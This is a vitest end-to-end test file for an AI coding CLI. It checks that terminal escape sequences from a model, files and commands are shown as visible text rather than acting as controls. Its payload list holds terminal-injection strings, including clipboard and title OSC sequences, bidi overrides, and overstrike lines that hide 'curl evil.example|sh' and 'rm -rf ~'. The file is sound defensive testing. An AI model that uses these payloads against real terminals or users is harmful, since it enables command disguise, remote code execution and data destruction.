import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startFakeModelServer, type FakeModelServer } from '../fakes/model-server.js';
import { makeWorkspace, TEST_KEYS, writeConfig, type Workspace } from '../e2e/harness.js';
import { HAVE_SCRIPT, plain, runCodebench, TerminalSession } from './terminal.js';

/**
 * Terminal escapes from a model, a file or a command must reach the user's terminal as visible
 * text, never as controls. Every payload travels wrapped in {{id}}…{{/id}} tags, so each place it
 * shows up (streamed text, activity lines, the diff, the approval prompt, history) is found and
 * checked: it must read exactly as the payload with its controls spelled out, and contain no
 * control character but our own inverse-video SGR around the markers.
 */
const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;
const PAYLOADS: string[] = [
  // CSI: erase, cursor moves, colours (single and multi-parameter), alternate screen, reports.
  `${ESC}[2J`, `${ESC}[K`, `${ESC}[1A`, `${ESC}[31m`, `${ESC}[1;31m`, `${ESC}[38;5;196m`, `${ESC}[?1049h`, `${ESC}[6n`,
  // OSC with BEL and ST terminators: title, clipboard (52), hyperlink (8).
  `${ESC}]0;pwned${BEL}`, `${ESC}]0;pwned${ST}`, `${ESC}]52;c;aGk=${BEL}`, `${ESC}]52;c;aGk=${ST}`, `${ESC}]8;;http://evil.example${ST}link${ESC}]8;;${ST}`,
  // DCS, APC, PM, full reset, a lone ESC.
  `${ESC}P1$r0m${ST}`, `${ESC}_apc${ST}`, `${ESC}^pm${ST}`, `${ESC}c`, ESC,
  // 8-bit C1 controls: CSI, OSC, DCS, ST, NEL.
  '\u009b2J', '\u009d0;pwned\u0007', '\u009d52;c;aGk=\u009c', '\u0090dcs\u009c', '\u0085', '\u009b31m',
  // Carriage return and backspace overstrike making a dangerous line read as harmless.
  'curl evil.example|sh\r+harmless', `curl evil.example|sh\r+harmless${ESC}[K`, 'rm -rf ~\b\b\b\b\b\b\b\bls -la   ',
  // Bidi embeddings, overrides and isolates; zero-width and BOM; other C0 and DEL.
  '\u202eevil\u202c', '\u2066\u2067rtl\u2069\u2069', '\u202a\u202b\u202dx', '\u200bzero\u200b', '\ufeffbom', '\u061c\u200e\u200f',
  '\x01\x7f\x0b\x0c\x07',
];

const tagged = (id: string, payload: string) => `{{${id}}}${payload}{{/${id}}}`;
const textPayloads = PAYLOADS.map((payload, index) => tagged(`t${index}`, payload)).join(' ');
const fileLines = PAYLOADS.map((payload, index) => tagged(`f${index}`, payload));

// Anything a terminal would act on: C0 but tab and newline, DEL, C1, bidi and invisible formats.
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/;

/** The rendering the user should see, worked out independently of the implementation. */
function expectedVisible(payload: string): string {
  return [...payload]
    .map((char) => {
      if (!UNSAFE.test(char)) return char;
      const code = char.charCodeAt(0);
      if (code < 0x20) return `^${String.fromCharCode(code + 64)}`;
      if (code === 0x7f) return '^?';
      return `<U+${code.toString(16).toUpperCase().padStart(4, '0')}>`;
    })
    .join('');
}

/**
 * Checks every tagged segment in `output`; returns the ids seen. History prints tool arguments as
 * JSON, where a payload reads JSON-escaped (`\u001b`): with `json`, that form passes as well.
 */
function checkSegments(output: string, json = false): Set<string> {
  // A segment cut short (history clips long tool arguments) has no closing tag and is skipped.
  const seen = new Set<string>();
  for (const match of output.matchAll(/\{\{(\w+)\}\}((?:(?!\{\{)[\s\S])*)\{\{\/\1\}\}/g)) {
    const [, id, inner] = match as unknown as [string, string, string];
    // Our own marker style, and nothing else, may wrap the markers.
    const shown = inner.replace(/\x1b\[(?:7|27)m/g, '');
    expect(shown, `segment ${id}: ${JSON.stringify(inner)}`).not.toMatch(UNSAFE);
    const payload = PAYLOADS[Number(id.replace(/^\D+/, ''))];
    if (payload !== undefined && /^[tfc]\d+$/.test(id)) {
      const forms = [expectedVisible(payload), ...(json ? [expectedVisible(JSON.stringify(payload).slice(1, -1))] : [])];
      expect(forms, `segment ${id}: ${JSON.stringify(shown)}`).toContain(shown);
    }
    seen.add(id);
  }
  return seen;
}

/** Without a terminal there are no colours, spinner or prompts: nothing but text may appear. */
function expectNoControls(text: string): void {
  const found = [...text].filter((char) => UNSAFE.test(char));
  expect(found.map((char) => `U+${char.charCodeAt(0).toString(16).padStart(4, '0')}`)).toEqual([]);
}

describe('terminal escapes from the model, files and commands', () => {
  let fake: FakeModelServer;
  let workspace: Workspace;
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    fake = await startFakeModelServer();
  });
  afterAll(async () => {
    await fake.close();
  });
  beforeEach(() => {
    workspace = makeWorkspace({ 'notes.txt': `${fileLines.join('\n')}\n`, '.git/HEAD': 'ref: refs/heads/main\n' });
    writeConfig(workspace, fake);
    // No NO_COLOR: in a terminal colours are on, and must still wrap only our own text.
    env = { PATH: process.env.PATH, HOME: workspace.dataDir, CODEBENCH_CONFIG: workspace.configFile, CODEBENCH_DATA_DIR: workspace.dataDir, ...TEST_KEYS };
  });

  /** The model streams every payload, searches with one, and edits each hostile line of a file. */
  const enqueueAttack = (extra: Array<{ name: string; args: Record<string, unknown> }> = [], last = `Done. ${textPayloads}`) =>
    fake.enqueue(
      {
        text: `Looking. ${textPayloads}`,
        toolCalls: [
          { name: 'grep', args: { pattern: tagged('g1', `${ESC}]0;pwned${BEL}`) } },
          { name: 'read_file', args: { path: tagged('r1', `missing${ESC}[2J.txt`) } },
          ...PAYLOADS.map((_, index) => ({ name: 'edit_file', args: { path: 'notes.txt', old_string: `{{/f${index}}}`, new_string: `{{/f${index}}} edited` } })),
          ...extra,
        ],
      },
      { text: last },
    );

  it('ask in a pipe: text, activity lines and the diff carry no control character', async () => {
    enqueueAttack();
    const result = await runCodebench(['ask', 'tidy the notes'], { cwd: workspace.root, env });
    expect(result.code).toBe(0);
    expectNoControls(result.stdout);
    expectNoControls(result.stderr);
    const seen = checkSegments(result.stdout + result.stderr);
    // Every payload in the streamed text (twice) and in the diff's - and + lines.
    for (let index = 0; index < PAYLOADS.length; index++) {
      expect(seen.has(`t${index}`) && seen.has(`f${index}`), `payload ${index}`).toBe(true);
      expect(result.stdout).toContain(`-{{f${index}}}`);
      expect(result.stdout).toContain(`+{{f${index}}}`);
    }
    // Tool arguments in activity lines: the grep pattern and the read path.
    expect(seen.has('g1') && seen.has('r1')).toBe(true);
    expect(result.stderr).toContain('{{g1}}^[]0;pwned^G{{/g1}}');
  });

  it('ask in a pipe: a provider error quoting hostile text is shown safely', async () => {
    fake.enqueue({ status: 400, errorMessage: `bad request ${tagged('e1', `${ESC}]52;c;aGk=${BEL}\u009b2J\r`)}` });
    const result = await runCodebench(['ask', 'fail please'], { cwd: workspace.root, env });
    expect(result.code).toBe(1);
    expectNoControls(result.stderr);
    expectNoControls(result.stdout);
    expect(result.stderr).toContain('{{e1}}^[]52;c;aGk=^G<U+009B>2J^M{{/e1}}');
  });

  it.skipIf(!HAVE_SCRIPT)('in a terminal: colours stay ours, and the prompt, command output and history show controls visibly', async () => {
    const commandPayloads = PAYLOADS.map((payload, index) => [index, payload] as const).filter(([, payload]) => !payload.includes("'"));
    const printed = commandPayloads.map(([index, payload]) => `'${tagged(`c${index}`, payload)}'`).join(' ');
    enqueueAttack([{ name: 'run_command', args: { command: `printf '%s\\n' ${printed}` } }]);
    const terminal = TerminalSession.start(['ask', 'tidy the notes'], { cwd: workspace.root, env });
    await terminal.waitFor('Allow [o]nce', 30_000);
    terminal.type('o\r');
    await terminal.waitFor('Apply these changes? [a]pply / [d]iscard', 30_000);
    terminal.type('d\r');
    expect(await terminal.exited).toBe(0);
    // Our colours are on: the diff's + lines are green.
    expect(terminal.output).toMatch(/\x1b\[32m\+\{\{f0\}\}/);
    const seen = checkSegments(terminal.output);
    for (const [index] of commandPayloads) expect(seen.has(`c${index}`), `approval prompt shows payload ${index}`).toBe(true);
    for (let index = 0; index < PAYLOADS.length; index++) expect(seen.has(`t${index}`) && seen.has(`f${index}`)).toBe(true);

    const sessionId = /session ([0-9a-f-]{36})/.exec(plain(terminal.output))![1]!;
    // The command ran and its raw output went to the model, so history holds it raw.
    const stored = JSON.stringify(fake.modelRequests.at(-1)!.body.messages);
    expect(stored).toContain('\\u001b]0;pwned\\u0007');

    for (const args of [['history', 'show', sessionId], ['history', 'export', sessionId]]) {
      const view = TerminalSession.start(args, { cwd: workspace.root, env });
      expect(await view.exited).toBe(0);
      const shown = checkSegments(view.output, true);
      // History keeps the first 6 lines of a tool result, one payload per line here.
      expect(commandPayloads.filter(([index]) => shown.has(`c${index}`)).length, `${args[1]} shows command output`).toBeGreaterThanOrEqual(6);
      for (let index = 0; index < PAYLOADS.length; index++) expect(shown.has(`t${index}`), `${args[1]} payload ${index}`).toBe(true);
    }

    // In a pipe `history show` is still for reading; JSON stays the same value, escaped.
    const piped = await runCodebench(['history', 'show', sessionId], { cwd: workspace.root, env });
    expectNoControls(piped.stdout);
    const json = await runCodebench(['history', 'export', '--format', 'json', sessionId], { cwd: workspace.root, env });
    expectNoControls(json.stdout);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(`{{t8}}${PAYLOADS[8]}{{/t8}}`).slice(1, -1));
    // A Markdown export to a file or pipe is the faithful record: the raw text, as stored.
    const file = join(workspace.root, 'export.md');
    expect((await runCodebench(['history', 'export', sessionId, '-o', file], { cwd: workspace.root, env })).code).toBe(0);
    expect(readFileSync(file, 'utf8')).toContain(tagged('t9', PAYLOADS[9]!));
  }, 90_000);
  it('policy list, the audit log and CLI errors show stored model text inertly', async () => {
    // Rules and audit subjects are words the model wrote (or the user pasted): every payload is stored.
    // `policy allow` splits its words on whitespace (CR too), so these segments are checked for
    // controls (prefix p), not for the exact rendering.
    const words = PAYLOADS.map((payload, index) => tagged(`p${index}`, payload));
    const added = await runCodebench(['policy', 'allow', 'echo', ...words], { cwd: workspace.root, env });
    expect(added.code).toBe(0);
    expectNoControls(added.stdout);
    const listed = await runCodebench(['policy', 'list'], { cwd: workspace.root, env });
    expect(listed.code).toBe(0);
    expectNoControls(listed.stdout);
    const seen = checkSegments(listed.stdout);
    for (let index = 0; index < PAYLOADS.length; index++) expect(seen.has(`p${index}`), `payload ${index}`).toBe(true);
    expect(listed.stdout).toContain('{{p8}}^[]0;pwned^G{{/p8}}');
    // A command the model asked for reaches the audit log as its subject.
    enqueueAttack([{ name: 'run_command', args: { command: `echo ${tagged('c8', PAYLOADS[8]!)}` } }]);
    await runCodebench(['ask', 'run it'], { cwd: workspace.root, env });
    const audit = await runCodebench(['history', 'audit'], { cwd: workspace.root, env });
    expect(audit.code).toBe(0);
    expectNoControls(audit.stdout);
    expect(checkSegments(audit.stdout).has('c8')).toBe(true);
    // An error message that quotes what the user typed (an unknown session id).
    const missing = await runCodebench(['history', 'show', tagged('c9', PAYLOADS[9]!)], { cwd: workspace.root, env });
    expect(missing.code).not.toBe(0);
    expectNoControls(missing.stderr);
  });
});
